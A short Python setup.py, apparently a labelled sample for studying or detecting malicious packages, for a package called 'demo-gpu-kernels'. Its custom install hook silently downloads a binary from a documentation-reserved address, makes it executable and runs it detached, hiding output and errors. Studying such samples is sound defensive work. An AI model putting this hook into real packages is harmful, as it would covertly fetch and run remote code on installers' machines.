# Cerebro sample: the shape of an install command that downloads a program and starts it. The address belongs to a network
# that is reserved for documentation, so nothing is ever downloaded.
import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), "demo-agent")
        try:
            urllib.request.urlretrieve("http://203.0.113.20/demo-agent.bin", target)
            os.chmod(target, 0o755)
            subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        except OSError:
            pass


setup(
    name="demo-gpu-kernels",
    version="0.9.0",
    author="demo",
    packages=["demo_gpu_kernels"],
    cmdclass={"install": PostInstall},
)
